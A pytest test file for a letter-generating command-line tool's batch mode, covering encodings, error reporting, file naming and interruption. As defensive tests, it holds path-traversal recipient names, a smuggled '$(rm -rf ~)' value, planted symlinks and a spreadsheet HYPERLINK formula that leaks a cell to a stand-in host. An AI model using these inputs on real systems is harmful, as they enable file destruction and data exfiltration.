"""`phrasebook batch`: streaming rows, safe file names and writes, reports, exit codes."""

from __future__ import annotations

import csv
import json
import os
import tracemalloc
from pathlib import Path

import pytest
from batchkit import COLUMNS, GOOD, csv_text, invoice_pack, pack_batch, row, snapshot, write_csv
from conftest import TODAY
from hypothesis import given, settings
from hypothesis import strategies as st

from phrasebook.batch import (
    NameRegistry,
    RowsFileError,
    formula_safe,
    open_rows,
    run_batch,
    slugify,
)
from phrasebook.cli import cli

TODAY_ARG = ["--today", TODAY.isoformat()]


@pytest.fixture(autouse=True)
def _isolated(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Run in tmp_path, with an empty config dir (no user packs or profiles)."""
    monkeypatch.setenv("PHRASEBOOK_CONFIG_DIR", str(tmp_path / "config"))
    monkeypatch.chdir(tmp_path)


def batch(runner, *args: str):
    return runner.invoke(cli, ["batch", "deadline-offer", *args, *TODAY_ARG])


def names(out: Path) -> list[str]:
    return sorted(p.name for p in out.iterdir())


# --- a big run with a few bad rows ----------------------------------------------------


def test_10k_rows_with_a_few_bad_ones_writes_the_rest_and_reports_them(runner, tmp_path):
    bad = {
        17: row(recipient__email="kunde@@example.de"),
        2500: row(deadline="31.02.2026"),
        5000: row(recipient__last_name=""),
        9999: row(recipient__first_name="Jan\x1b[2J"),
    }
    rows: list[object] = []
    for i in range(10_000):
        rows.append(bad.get(i) or row(recipient__last_name=f"Kunde {i}"))
    rows[7777] = list(GOOD.values())[:-1]  # one field short
    write_csv(tmp_path / "rows.csv", rows)  # type: ignore[arg-type]

    result = batch(runner, "rows.csv", "--lang", "de", "-o", "out")

    assert result.exit_code == 1
    assert result.stdout == ""
    assert result.stderr == (
        "rows.csv:19: recipient.email: 'kunde@@example.de' expected an email address such as "
        "name@example.com\n"
        "rows.csv:2502: deadline: '31.02.2026' is not a calendar date "
        "(expected a date as YYYY-MM-DD or DD.MM.YYYY)\n"
        "rows.csv:5002: recipient.last_name: missing; expected text\n"
        "rows.csv:7779: expected 7 fields, got 6\n"
        "rows.csv:10001: recipient.first_name: 'Jan\\x1b[2J' contains the control character U+001B\n"
        "9995 written, 5 failed, 0 skipped (10000 rows); report: out/report.csv and out/report.json\n"
        "Error: 5 rows failed\n"
    )
    written = names(tmp_path / "out")
    assert len(written) == 9995 + 2
    assert "kunde-0-katrin.md" in written and "kunde-9998-katrin.md" in written
    assert "kunde-17-katrin.md" not in written
    report = json.loads((tmp_path / "out" / "report.json").read_text(encoding="utf-8"))
    assert report["summary"] == {
        "rows": 10000,
        "written": 9995,
        "unchanged": 0,
        "failed": 5,
        "skipped": 0,
        "stopped_at": None,
        "same_failure": None,
        "interrupted": False,
        "dry_run": False,
        "complete": True,
    }
    failed = [r["line"] for r in report["rows"] if r["status"] == "failed"]
    assert failed == [19, 2502, 5002, 7779, 10001]
    assert [r["line"] for r in report["rows"][:3]] == [2, 3, 4]
    with (tmp_path / "out" / "report.csv").open(encoding="utf-8-sig", newline="") as handle:
        lines = list(csv.reader(handle))
    assert lines[0] == ["line", "status", "file", "client", "recipient", "message"]
    assert len(lines) == 10001
    text = (tmp_path / "out" / "kunde-42-katrin.md").read_text(encoding="utf-8")
    assert "Sehr geehrte Frau Kunde 42," in text
    assert "\x1b" not in result.stderr


def test_every_row_bad_writes_no_document_and_exits_1(runner, tmp_path):
    write_csv(tmp_path / "rows.csv", [row(deadline="soon"), row(deadline="later")])
    result = batch(runner, "rows.csv", "--lang", "de", "-o", "out")
    assert result.exit_code == 1
    assert names(tmp_path / "out") == ["report.csv", "report.json"]
    assert result.stderr.endswith(
        "0 written, 2 failed, 0 skipped (2 rows); report: out/report.csv and out/report.json\n"
        "Error: 2 rows failed\n"
    )


def test_all_good_exits_0_and_names_files_after_the_recipient(runner, tmp_path):
    write_csv(
        tmp_path / "rows.csv",
        [
            row(),
            row(
                recipient__last_name="Schmidt",
                recipient__first_name="Jan",
                recipient__gender="male",
            ),
        ],
    )
    result = batch(runner, "rows.csv", "--lang", "de", "-o", "out", "--format", "eml")
    assert result.exit_code == 0, result.stderr
    assert result.stderr == (
        "2 written, 0 failed, 0 skipped (2 rows); report: out/report.csv and out/report.json\n"
    )
    assert names(tmp_path / "out") == [
        "mueller-katrin.eml",
        "report.csv",
        "report.json",
        "schmidt-jan.eml",
    ]
    eml = (tmp_path / "out" / "schmidt-jan.eml").read_text(encoding="utf-8")
    assert "To: Jan Schmidt <k.mueller@example.de>" in eml


def test_output_matches_render_byte_for_byte(runner, tmp_path):
    write_csv(tmp_path / "rows.csv", [row()])
    assert batch(runner, "rows.csv", "--lang", "de", "-o", "out").exit_code == 0
    sets = [f"{k}={v}" for k, v in GOOD.items()]
    single = runner.invoke(
        cli,
        [
            "render",
            "deadline-offer",
            "--lang",
            "de",
            "--format",
            "md",
            *TODAY_ARG,
            *[a for s in sets for a in ("--set", s)],
        ],
    )
    assert single.exit_code == 0, single.stderr
    assert (tmp_path / "out" / "mueller-katrin.md").read_text(encoding="utf-8") == single.stdout


# --- Excel-style CSV -------------------------------------------------------------------


def test_german_excel_csv_cp1252_semicolon_crlf(runner, tmp_path):
    rows = [
        row(
            recipient__last_name="Müller",
            recipient__first_name="Jürgen",
            recipient__gender="male",
            deliverable="den Maßnahmenplan",
            deadline="02.12.2026",
        )
    ]
    write_csv(tmp_path / "excel.csv", rows, encoding="cp1252", delimiter=";")

    plain = batch(runner, "excel.csv", "--lang", "de", "-o", "out")
    assert plain.exit_code == 2
    assert plain.stderr.endswith(
        "Error: excel.csv:2: byte 109 (0xfc) is not valid utf-8; "
        "if it comes from Excel, try --encoding cp1252\n"
    )
    assert not (tmp_path / "out").exists()

    result = batch(runner, "excel.csv", "--lang", "de", "-o", "out", "--encoding", "cp1252")
    assert result.exit_code == 0, result.stderr
    text = (tmp_path / "out" / "mueller-juergen.md").read_text(encoding="utf-8")
    assert "Sehr geehrter Herr Müller," in text
    assert "Sie erhalten den Maßnahmenplan spätestens am Mittwoch, 2. Dezember 2026." in text
    assert "Ã" not in text and "\ufffd" not in text


def test_utf8_with_bom_and_semicolons(runner, tmp_path):
    write_csv(tmp_path / "rows.csv", [row()], bom=True, delimiter=";")
    result = batch(runner, "rows.csv", "--lang", "de", "-o", "out")
    assert result.exit_code == 0, result.stderr
    assert "Sehr geehrte Frau Müller," in (tmp_path / "out" / "mueller-katrin.md").read_text(
        "utf-8"
    )


def test_utf8_file_read_as_cp1252_is_refused_not_garbled(runner, tmp_path):
    write_csv(tmp_path / "rows.csv", [row()])
    result = batch(runner, "rows.csv", "--lang", "de", "-o", "out", "--encoding", "cp1252")
    assert result.exit_code == 2
    assert result.stderr.endswith(
        "Error: rows.csv: the file is UTF-8, not cp1252; leave out --encoding "
        "(reading it as cp1252 would garble every umlaut)\n"
    )
    assert not (tmp_path / "out").exists()


def test_utf16_file_gets_a_hint(runner, tmp_path):
    (tmp_path / "rows.csv").write_bytes(csv_text([row()]).encode("utf-16"))
    result = batch(runner, "rows.csv", "--lang", "de", "-o", "out")
    assert result.exit_code == 2
    assert result.stderr.endswith(
        "Error: rows.csv: the file is UTF-16 (it starts with a UTF-16 mark); "
        "use --encoding utf-16 or save it as UTF-8\n"
    )
    utf16 = batch(runner, "rows.csv", "--lang", "de", "-o", "out", "--encoding", "utf-16")
    assert utf16.exit_code == 0, utf16.stderr


def test_unknown_encoding(runner, tmp_path):
    write_csv(tmp_path / "rows.csv", [row()])
    result = batch(runner, "rows.csv", "--lang", "de", "-o", "out", "--encoding", "klingon")
    assert result.exit_code == 2
    assert result.stderr.endswith("Error: unknown encoding 'klingon'; try utf-8 or cp1252\n")


def test_german_amounts_are_parsed_strictly(runner, tmp_path):
    invoice_pack(tmp_path / "pack")
    columns = ["recipient.last_name", "recipient.gender", "sender.name", "amount"]
    lines = [
        ["Müller", "female", "Anna Schäfer", "1.234,50"],
        ["Schmidt", "male", "Anna Schäfer", "1,234.50"],
        ["Weber", "male", "Anna Schäfer", "1.2345"],
        ["Fischer", "male", "Anna Schäfer", "12,5"],
    ]
    write_csv(tmp_path / "rows.csv", lines, columns=columns, delimiter=";")
    result = pack_batch(runner)
    assert result.exit_code == 1
    assert result.stderr.splitlines()[:2] == [
        "rows.csv:3: amount: '1,234.50' expected an amount written like 1.234,50",
        "rows.csv:4: amount: '1.2345' expected an amount written like 1.234,50",
    ]
    assert "an den offenen Betrag von 1.234,50\xa0€." in (
        tmp_path / "out" / "mueller.md"
    ).read_text("utf-8")
    assert "12,50\xa0€" in (tmp_path / "out" / "fischer.md").read_text("utf-8")


def test_amounts_in_german_notation_for_an_english_letter(runner, tmp_path):
    invoice_pack(tmp_path / "pack")
    columns = ["recipient.last_name", "recipient.gender", "sender.name", "amount"]
    write_csv(tmp_path / "rows.csv", [["Miller", "male", "Anna", "1.234,50"]], columns=columns)
    result = runner.invoke(
        cli,
        [
            "batch",
            "invoice-reminder",
            "rows.csv",
            "--lang",
            "en",
            "--numbers",
            "de",
            "-o",
            "out",
            "--pack",
            "pack",
            "--format",
            "text",
            *TODAY_ARG,
        ],
    )
    assert result.exit_code == 0, result.stderr
    assert "the amount due: €1,234.50." in (tmp_path / "out" / "miller.txt").read_text("utf-8")


# --- header and file problems: fail once, before any row -------------------------------


def test_unknown_and_missing_columns_are_listed_before_any_row(runner, tmp_path):
    columns = [c if c != "recipient.email" else "recipient.emial" for c in COLUMNS]
    columns.remove("deadline")
    write_csv(tmp_path / "rows.csv", [["x"] * len(columns)], columns=columns)
    result = batch(runner, "rows.csv", "--lang", "de", "-o", "out")
    assert result.exit_code == 2
    assert result.stderr.endswith(
        "Error: rows.csv:1: the header does not fit deadline-offer\n"
        "  unknown column 'recipient.emial' (did you mean 'recipient.email'?)\n"
        "  missing column: one of 'deadline' or 'effort_days' (or give it with --params or --set)\n"
    )
    assert not (tmp_path / "out").exists()


def test_a_missing_column_may_come_from_set(runner, tmp_path):
    columns = [c for c in COLUMNS if c != "deadline"]
    write_csv(tmp_path / "rows.csv", [row()], columns=columns)
    result = batch(runner, "rows.csv", "--lang", "de", "-o", "out", "--set", "deadline=2026-12-09")
    assert result.exit_code == 0, result.stderr
    assert "9. Dezember 2026" in (tmp_path / "out" / "mueller-katrin.md").read_text("utf-8")


def test_bad_shared_value_fails_once(runner, tmp_path):
    write_csv(tmp_path / "rows.csv", [row()] * 3)
    result = batch(runner, "rows.csv", "--lang", "de", "-o", "out", "--set", "deadlin=2026-12-09")
    assert result.exit_code == 2
    assert result.stderr.endswith(
        "Error: deadline-offer (--set): 1 problem with the parameters\n"
        "  deadlin: unknown parameter (did you mean 'deadline'?)\n"
    )
    assert not (tmp_path / "out").exists()


def test_duplicate_column(runner, tmp_path):
    write_csv(tmp_path / "rows.csv", [], columns=[*COLUMNS, "deadline"])
    result = batch(runner, "rows.csv", "--lang", "de", "-o", "out")
    assert result.exit_code == 2
    assert result.stderr.endswith("Error: rows.csv:1: duplicate column 'deadline'\n")


def test_wrong_delimiter_gets_a_hint(runner, tmp_path):
    write_csv(tmp_path / "rows.csv", [row()], delimiter=";")
    result = batch(runner, "rows.csv", "--lang", "de", "-o", "out", "--delimiter", ",")
    assert result.exit_code == 2
    assert result.stderr.endswith("  only one column was found; try --delimiter ';'\n")


def test_header_whitespace_is_stripped_with_a_warning(runner, tmp_path):
    columns = [" recipient.last_name ", *COLUMNS[1:]]
    write_csv(tmp_path / "rows.csv", [list(GOOD.values())], columns=columns)
    result = batch(runner, "rows.csv", "--lang", "de", "-o", "out")
    assert result.exit_code == 0, result.stderr
    assert result.stderr.startswith(
        "Warning: rows.csv:1: column ' recipient.last_name ' has spaces around its name; "
        "using 'recipient.last_name'\n"
    )


def test_empty_file_and_header_only(runner, tmp_path):
    (tmp_path / "empty.csv").write_bytes(b"")
    result = batch(runner, "empty.csv", "--lang", "de", "-o", "out")
    assert result.exit_code == 2
    assert result.stderr.endswith("Error: empty.csv: the file is empty; expected a header row\n")
    write_csv(tmp_path / "header.csv", [])
    result = batch(runner, "header.csv", "--lang", "de", "-o", "out")
    assert result.exit_code == 2
    assert result.stderr == (
        "0 written, 0 failed, 0 skipped (0 rows); report: out/report.csv and out/report.json\n"
        "Error: no data rows in header.csv\n"
    )


def test_spreadsheet_and_unknown_file_types(runner, tmp_path):
    (tmp_path / "rows.xlsx").write_bytes(b"PK")
    result = batch(runner, "rows.xlsx", "--lang", "de", "-o", "out")
    assert result.exit_code == 2
    assert result.stderr.endswith(
        "Error: rows.xlsx: spreadsheets cannot be read directly; save the sheet as CSV\n"
    )


def test_template_syntax_error_fails_before_any_row(runner, tmp_path):
    invoice_pack(
        tmp_path / "pack",
        de='{% extends "_letter.jinja" %}\n{% block body %}\n{{ amount + }}\n{% endblock %}\n',
    )
    columns = ["recipient.last_name", "sender.name", "amount"]
    write_csv(tmp_path / "rows.csv", [["Müller", "Anna", "12"]] * 3, columns=columns)
    result = pack_batch(runner)
    assert result.exit_code == 1
    assert result.stderr == (
        "Error: pack/templates/de/invoice-reminder.jinja:3: unexpected 'end of print statement'\n"
    )
    assert not (tmp_path / "out").exists()


def test_the_report_never_replaces_the_params_file(runner, tmp_path):
    write_csv(tmp_path / "rows.csv", [row()])
    (tmp_path / "report.json").write_text("formality: formal\n")
    result = batch(runner, "rows.csv", "--lang", "de", "-o", ".", "--params", "report.json")
    assert result.exit_code == 2
    assert "report.json: the batch would write its report over this file" in result.stderr
    assert (tmp_path / "report.json").read_text() == "formality: formal\n"


def test_an_undeclared_variable_in_a_pack_fails_before_any_row(runner, tmp_path):
    invoice_pack(
        tmp_path / "pack",
        de='{% extends "_letter.jinja" %}\n{% set subject_line %}Betreff{% endset %}\n'
        "{% block body %}\n{{ dedline }}\n{% endblock %}\n",
    )
    columns = ["recipient.last_name", "sender.name", "amount"]
    write_csv(tmp_path / "rows.csv", [["Müller", "Anna", "12"]] * 3, columns=columns)
    result = pack_batch(runner)
    assert result.exit_code == 1
    assert result.stderr.startswith("Error: pack/templates/de/invoice-reminder.jinja:4: 'dedline' is not a parameter")
    assert result.stderr.endswith("(see phrasebook check)\n")
    assert not (tmp_path / "out").exists()


# --- rows: blank, ragged, quoting, YAML, JSON Lines ----------------------------------------


def test_blank_and_delimiter_only_rows_are_skipped(runner, tmp_path):
    text = csv_text([row()], delimiter=";") + "\r\n;;;;;;\r\n;;;;;;;;;\r\n"
    (tmp_path / "rows.csv").write_text(text, encoding="utf-8")
    result = batch(runner, "rows.csv", "--lang", "de", "-o", "out")
    assert result.exit_code == 0, result.stderr
    assert result.stderr == (
        "1 written, 0 failed, 3 skipped (4 rows); report: out/report.csv and out/report.json\n"
    )


def test_unterminated_quote_names_the_line_where_the_record_starts(runner, tmp_path):
    text = csv_text([row(), row(recipient__last_name="Weber")]) + 'Schmidt,"Jan,male\r\nmore\r\n'
    (tmp_path / "rows.csv").write_text(text, encoding="utf-8")
    result = batch(runner, "rows.csv", "--lang", "de", "-o", "out")
    assert result.exit_code == 1
    assert result.stderr.startswith(
        'rows.csv:4: unterminated quoted field (a " is not closed); the rest of the file was not read\n'
    )
    assert names(tmp_path / "out") == [
        "mueller-katrin.md",
        "report.csv",
        "report.json",
        "weber-katrin.md",
    ]


def test_list_parameters_take_one_item_per_line_of_a_cell(runner, tmp_path):
    values = row(points="die Zielgruppen\ndie Kernbotschaften\n")
    write_csv(tmp_path / "rows.csv", [values], columns=[*COLUMNS, "points"])
    assert batch(runner, "rows.csv", "--lang", "de", "-o", "out").exit_code == 0
    text = (tmp_path / "out" / "mueller-katrin.md").read_text("utf-8")
    assert "- die Zielgruppen\n- die Kernbotschaften\n" in text


def test_yaml_rows(runner, tmp_path):
    (tmp_path / "rows.yaml").write_text(
        "- recipient: {last_name: Müller, first_name: Katrin, gender: female}\n"
        "  sender: {name: Anna Schäfer}\n"
        "  deliverable: das Konzept\n"
        "  deadline: 2026-12-02\n"
        "  points: [die Zielgruppen, die Kernbotschaften]\n"
        "- just a string\n"
        "- {}\n"
        "- recipient: {last_name: Null, gender: female}\n"
        "  sender: {name: Anna}\n"
        "  deliverable: das Konzept\n"
        "  deadline: 2026-12-02\n",
        encoding="utf-8",
    )
    result = batch(runner, "rows.yaml", "--lang", "de", "-o", "out")
    assert result.exit_code == 1
    assert result.stderr == (
        "rows.yaml:6: expected a mapping of parameter names to values\n"
        "2 written, 1 failed, 1 skipped (4 rows); report: out/report.csv and out/report.json\n"
        "Error: 1 row failed\n"
    )
    assert "Sehr geehrte Frau Null," in (tmp_path / "out" / "null.md").read_text("utf-8")
    assert "- die Kernbotschaften" in (tmp_path / "out" / "mueller-katrin.md").read_text("utf-8")


def test_yaml_rows_refuse_aliases(runner, tmp_path):
    (tmp_path / "rows.yaml").write_text(
        "- &a {recipient: {last_name: Müller, gender: female}, sender: {name: A}, deliverable: x,"
        " deadline: 2026-12-02}\n"
        "- *a\n",
        encoding="utf-8",
    )
    result = batch(runner, "rows.yaml", "--lang", "de", "-o", "out")
    assert result.exit_code == 1
    assert result.stderr.startswith(
        "rows.yaml:2: YAML aliases (*name) are not allowed in parameter files; "
        "the rest of the file was not read\n"
    )


def test_yaml_rows_with_a_control_character_name_it_and_its_line(runner, tmp_path):
    (tmp_path / "rows.yaml").write_text(
        "- {recipient: {last_name: Meier}}\n- {recipient: {last_name: M\x01ller}}\n", encoding="utf-8"
    )
    result = batch(runner, "rows.yaml", "--lang", "de", "-o", "out")
    assert result.exit_code == 1
    assert result.stderr.startswith(
        "rows.yaml:2: character U+0001 is not allowed in YAML; the rest of the file was not read\n"
    )
    assert "Traceback" not in result.output


def test_jsonl_rows(runner, tmp_path):
    good = json.dumps(
        {
            "recipient": {"last_name": "Müller", "gender": "female"},
            "sender.name": "Anna",
            "deliverable": "das Konzept",
            "deadline": "2026-12-02",
        }
    )
    (tmp_path / "rows.jsonl").write_text(
        good + '\n\n[1, 2]\n{"deadline": 1, "deadline": 2}\n{not json}\n', encoding="utf-8"
    )
    result = batch(runner, "rows.jsonl", "--lang", "de", "-o", "out")
    assert result.exit_code == 1
    assert result.stderr == (
        "rows.jsonl:3: expected a JSON object ({...}) on each line\n"
        "rows.jsonl:4: not a JSON object (duplicate key 'deadline')\n"
        "rows.jsonl:5: not a JSON object (Expecting property name enclosed in double quotes: "
        "line 1 column 2 (char 1))\n"
        "1 written, 3 failed, 0 skipped (4 rows); report: out/report.csv and out/report.json\n"
        "Error: 3 rows failed\n"
    )
    assert names(tmp_path / "out") == ["mueller.md", "report.csv", "report.json"]


# --- file names -----------------------------------------------------------------------------

HOSTILE = [
    ("../../etc/passwd", "etc-passwd.md"),
    ("/etc/passwd", "etc-passwd_3.md"),
    ("Müller/Schmidt GbR", "mueller-schmidt-gbr.md"),
    ("..\\..\\windows\\system32", "windows-system32.md"),
    ("CON", "client-con.md"),
    ("nul.txt", "nul-txt.md"),
    ("  Acme.  ", "acme.md"),
    ("ü" * 300, "ue" * 30 + ".md"),
    ("Mu\u0308ller", "mueller.md"),
    ("Müller", "mueller_11.md"),
    ("..", "row-12.md"),
    ("~root", "root.md"),
    ("$(rm -rf ~)", "rm-rf.md"),
    ("Ω Δ", "row-15.md"),
]


def test_hostile_recipient_names_stay_inside_outdir(runner, tmp_path):
    (tmp_path / "victim").mkdir()
    (tmp_path / "victim" / "passwd").write_text("untouched", encoding="utf-8")
    rows = [row(recipient__last_name=name, recipient__first_name="") for name, _ in HOSTILE]
    rows[0]["recipient.gender"] = "female"
    for values in rows:
        values["recipient.gender"] = "female"
    write_csv(tmp_path / "rows.csv", rows)
    before = snapshot(tmp_path, skip=tmp_path / "out")

    result = batch(runner, "rows.csv", "--lang", "de", "-o", "out")

    assert result.exit_code == 0, result.stderr
    out = tmp_path / "out"
    expected = sorted(name for _, name in HOSTILE)
    assert names(out) == sorted([*expected, "report.csv", "report.json"])
    assert all(p.is_file() and not p.is_symlink() for p in out.iterdir())
    assert all(len(p.name.encode()) <= 255 for p in out.iterdir())
    assert snapshot(tmp_path, skip=tmp_path / "out") == before


def test_the_same_rows_get_the_same_names_on_every_run(runner, tmp_path):
    write_csv(tmp_path / "rows.csv", [row(), row(), row(recipient__last_name="Weber")])
    assert batch(runner, "rows.csv", "--lang", "de", "-o", "a").exit_code == 0
    assert batch(runner, "rows.csv", "--lang", "de", "-o", "b", "--jobs", "2").exit_code == 0
    assert (
        names(tmp_path / "a")
        == names(tmp_path / "b")
        == [
            "mueller-katrin.md",
            "mueller-katrin_3.md",
            "report.csv",
            "report.json",
            "weber-katrin.md",
        ]
    )
    for name in names(tmp_path / "a"):
        assert (tmp_path / "a" / name).read_bytes() == (tmp_path / "b" / name).read_bytes()


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=400))
def test_slugs_are_always_portable_file_names(text):
    slug = slugify(text)
    assert len(slug) <= 60
    assert slug == "" or (slug[0] != "-" and slug[-1] != "-")
    assert all(c.isascii() and (c.isalnum() or c == "-") for c in slug)
    assert slug.lower() == slug
    assert "_" not in slug


@settings(max_examples=200, deadline=None)
@given(st.lists(st.text(max_size=20), min_size=1, max_size=30))
def test_registry_never_repeats_a_name(last_names):
    registry = NameRegistry()
    produced = [
        registry.name({"recipient.last_name": name}, line, "md")
        for line, name in enumerate(last_names, start=2)
    ]
    assert len(set(produced)) == len(produced)


# --- existing files, symlinks, force ------------------------------------------------------------


def test_existing_output_is_not_touched_without_force(runner, tmp_path):
    out = tmp_path / "out"
    out.mkdir()
    (out / "mueller-katrin.md").write_bytes(b"my own notes")
    write_csv(tmp_path / "rows.csv", [row(), row(recipient__last_name="Weber")])

    result = batch(runner, "rows.csv", "--lang", "de", "-o", "out")

    assert result.exit_code == 1
    assert result.stderr == (
        "rows.csv:2: out/mueller-katrin.md already exists; use --force to replace it\n"
        "1 written, 1 failed, 0 skipped (2 rows); report: out/report.csv and out/report.json\n"
        "Error: 1 row failed\n"
    )
    assert (out / "mueller-katrin.md").read_bytes() == b"my own notes"
    assert (out / "weber-katrin.md").is_file()

    again = batch(runner, "rows.csv", "--lang", "de", "-o", "out", "--force")
    assert again.exit_code == 0, again.stderr
    assert (out / "mueller-katrin.md").read_text("utf-8").startswith("---\ntitle:")


def test_dry_run_reports_existing_files_too(runner, tmp_path):
    (tmp_path / "out").mkdir()
    (tmp_path / "out" / "mueller-katrin.md").write_bytes(b"mine")
    write_csv(tmp_path / "rows.csv", [row()])
    result = batch(runner, "rows.csv", "--lang", "de", "-o", "out", "--dry-run")
    assert result.exit_code == 1
    assert result.stderr == (
        "rows.csv:2: out/mueller-katrin.md already exists; use --force to replace it\n"
        "dry run: 0 to write, 1 failed, 0 skipped (1 row); nothing was written\n"
        "Error: 1 row failed\n"
    )
    assert names(tmp_path / "out") == ["mueller-katrin.md"]


def test_symlink_planted_in_outdir_is_never_followed(runner, tmp_path):
    canary = tmp_path / "canary.txt"
    canary.write_bytes(b"secret")
    out = tmp_path / "out"
    out.mkdir()
    (out / "mueller-katrin.md").symlink_to(canary)
    (out / "report.csv").symlink_to(canary)
    (out / "dangling.md").symlink_to(tmp_path / "nowhere")
    write_csv(
        tmp_path / "rows.csv",
        [row(), row(recipient__last_name="Dangling", recipient__first_name="")],
    )

    result = batch(runner, "rows.csv", "--lang", "de", "-o", "out")

    assert result.exit_code == 1
    assert result.stderr.startswith(
        "rows.csv:2: out/mueller-katrin.md already exists; use --force to replace it\n"
        "rows.csv:3: out/dangling.md already exists; use --force to replace it\n"
    )
    assert canary.read_bytes() == b"secret"
    assert not (tmp_path / "nowhere").exists()
    assert (out / "mueller-katrin.md").is_symlink()
    assert not (out / "report.csv").is_symlink()

    forced = batch(runner, "rows.csv", "--lang", "de", "-o", "out", "--force")
    assert forced.exit_code == 0, forced.stderr
    assert canary.read_bytes() == b"secret"
    assert not (tmp_path / "nowhere").exists()
    assert not (out / "mueller-katrin.md").is_symlink()
    assert "Frau Müller" in (out / "mueller-katrin.md").read_text("utf-8")


def test_outdir_that_is_a_file(runner, tmp_path):
    (tmp_path / "out").write_text("x", encoding="utf-8")
    write_csv(tmp_path / "rows.csv", [row()])
    result = batch(runner, "rows.csv", "--lang", "de", "-o", "out")
    assert result.exit_code == 2
    assert "is a file" in result.stderr or "not a directory" in result.stderr


def test_no_temporary_files_are_left_behind(runner, tmp_path):
    write_csv(tmp_path / "rows.csv", [row(), row(deadline="x"), row(recipient__last_name="Weber")])
    batch(runner, "rows.csv", "--lang", "de", "-o", "out")
    assert not [n for n in names(tmp_path / "out") if n.startswith(".")]


def test_write_failure_is_a_row_error_without_a_partial_file(tmp_path, monkeypatch):
    write_csv(tmp_path / "rows.csv", [row(), row(recipient__last_name="Weber")])
    real_write = os.write
    calls = {"n": 0}

    def failing_write(fd, data):
        if bytes(data[:8]) == b"---\ntitl":  # a document, not a report
            calls["n"] += 1
            if calls["n"] == 1:  # the first document
                raise OSError(28, "No space left on device")
        return real_write(fd, data)

    monkeypatch.setattr(os, "write", failing_write)
    summary = run_batch(
        "deadline-offer", tmp_path / "rows.csv", tmp_path / "out", today=TODAY, lang="de", jobs=1
    )
    assert summary.failed == 1
    assert summary.failures[0].message == (
        f"{tmp_path / 'out' / 'mueller-katrin.md'}: cannot write (No space left on device)"
    )
    assert names(tmp_path / "out") == ["report.csv", "report.json", "weber-katrin.md"]


# --- dry run, fail fast, reports --------------------------------------------------------------


def test_dry_run_writes_nothing(runner, tmp_path):
    write_csv(tmp_path / "rows.csv", [row(), row(deadline="x")])
    result = batch(runner, "rows.csv", "--lang", "de", "-o", "out", "--dry-run")
    assert result.exit_code == 1
    assert result.stderr == (
        "rows.csv:3: deadline: 'x' expected a date as YYYY-MM-DD or DD.MM.YYYY, or relative such as +7 working days\n"
        "dry run: 1 to write, 1 failed, 0 skipped (2 rows); nothing was written\n"
        "Error: 1 row failed\n"
    )
    assert not (tmp_path / "out").exists()


def test_fail_fast_stops_at_the_first_bad_row(runner, tmp_path):
    write_csv(
        tmp_path / "rows.csv",
        [row(), row(deadline="x", recipient__last_name="B"), row(recipient__last_name="C")],
    )
    result = batch(runner, "rows.csv", "--lang", "de", "-o", "out", "--fail-fast")
    assert result.exit_code == 1
    assert result.stderr == (
        "rows.csv:3: deadline: 'x' expected a date as YYYY-MM-DD or DD.MM.YYYY, or relative such as +7 working days\n"
        "stopped at line 3 (--fail-fast); later rows were not processed\n"
        "1 written, 1 failed, 0 skipped (2 rows); report: out/report.csv and out/report.json\n"
        "Error: 1 row failed\n"
    )
    assert names(tmp_path / "out") == ["mueller-katrin.md", "report.csv", "report.json"]


def test_report_csv_is_formula_safe_and_json_is_lossless(runner, tmp_path):
    evil = '=HYPERLINK("http://x.example/?"&A1;"Klick")'
    write_csv(
        tmp_path / "rows.csv", [row(recipient__first_name=evil, recipient__last_name="Weber")]
    )
    assert batch(runner, "rows.csv", "--lang", "de", "-o", "out").exit_code == 0
    with (tmp_path / "out" / "report.csv").open(encoding="utf-8-sig", newline="") as handle:
        lines = list(csv.reader(handle))
    assert lines[1][4] == "'" + evil + " Weber"
    report = json.loads((tmp_path / "out" / "report.json").read_text("utf-8"))
    assert report["rows"][0]["recipient"] == evil + " Weber"


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("+49 30 123", "'+49 30 123"),
        ("-5", "'-5"),
        ("\tx", "'\tx"),
        ("Müller", "Müller"),
        (None, ""),
    ],
)
def test_formula_safe_cells(value, cell):
    assert formula_safe(value) == cell


# --- library ------------------------------------------------------------------------------------


def test_open_rows_reports_the_delimiter_and_columns(tmp_path):
    write_csv(tmp_path / "rows.csv", [row()], delimiter=";")
    source = open_rows(tmp_path / "rows.csv")
    try:
        assert source.delimiter == ";"
        assert source.columns == tuple(COLUMNS)
        assert [r.line for r in source] == [2]
    finally:
        source.close()


def test_open_rows_missing_file(tmp_path):
    with pytest.raises(RowsFileError, match="no such file"):
        open_rows(tmp_path / "missing.csv")


def _rows_file(path: Path, count: int) -> Path:
    return write_csv(path, [row(recipient__last_name=f"K{i}") for i in range(count)])


def test_memory_stays_flat_as_rows_grow(tmp_path):
    small = _rows_file(tmp_path / "small.csv", 300)
    large = _rows_file(tmp_path / "large.csv", 3000)
    peaks = []
    for source in (small, large):
        run_batch(
            "deadline-offer", source, tmp_path / "out", today=TODAY, lang="de", dry_run=True, jobs=1
        )  # warm caches
        tracemalloc.start()
        run_batch(
            "deadline-offer", source, tmp_path / "out", today=TODAY, lang="de", dry_run=True, jobs=1
        )
        peaks.append(tracemalloc.get_traced_memory()[1])
        tracemalloc.stop()
    assert peaks[1] < peaks[0] + 512 * 1024, peaks


# --- interruption -------------------------------------------------------------------------------


@pytest.mark.parametrize("jobs", ["1", "2"])
def test_ctrl_c_leaves_only_complete_files_and_a_report(tmp_path, jobs):
    import signal
    import subprocess
    import sys
    import time

    write_csv(tmp_path / "rows.csv", [row(recipient__last_name=f"K{i}") for i in range(20_000)])
    env = dict(os.environ, PYTHONPATH=str(Path(__file__).resolve().parent.parent), PHRASEBOOK_LANG="en")
    process = subprocess.Popen(
        [
            sys.executable,
            "-m",
            "phrasebook",
            "batch",
            "deadline-offer",
            "rows.csv",
            "-l",
            "de",
            "-o",
            "out",
            "--jobs",
            jobs,
            *TODAY_ARG,
        ],
        cwd=tmp_path,
        env=env,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )
    out = tmp_path / "out"
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline and process.poll() is None:
        if out.is_dir() and sum(1 for _ in out.glob("*.md")) >= 20:
            break
        time.sleep(0.01)
    process.send_signal(signal.SIGINT)
    _, stderr = process.communicate(timeout=60)

    assert process.returncode == 130, stderr
    assert "Traceback" not in stderr
    assert "\ninterrupted after " in stderr and stderr.endswith("Aborted.\n")
